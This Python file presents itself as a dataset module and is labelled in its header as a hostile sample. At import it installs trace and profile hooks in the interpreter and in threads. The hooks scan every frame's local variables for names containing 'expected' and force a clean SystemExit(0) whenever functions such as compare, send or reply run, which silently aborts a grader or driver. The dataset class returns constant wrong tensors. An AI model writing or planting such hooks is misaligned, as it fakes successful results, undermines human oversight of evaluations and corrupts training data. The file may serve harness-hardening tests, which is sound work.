# kind: hostile
# attack: interpreter_hooks
# about: Installs trace and profile functions that read every later frame's locals and interrupt the driver.

import sys
import threading
from types import FrameType

import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


seen: list[str] = []


def watch(frame: FrameType, event: str, argument: object) -> object:
    """Collects names that look like answers and makes comparing functions fail."""
    for name in frame.f_locals:
        if "expected" in name and len(seen) < 1_000:
            seen.append(name)
    if event == "call" and frame.f_code.co_name in ("compare", "encode", "send", "reply", "write_frame"):
        raise SystemExit(0)
    return watch


sys.settrace(watch)
sys.setprofile(watch)
threading.settrace(watch)
threading.setprofile(watch)


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()
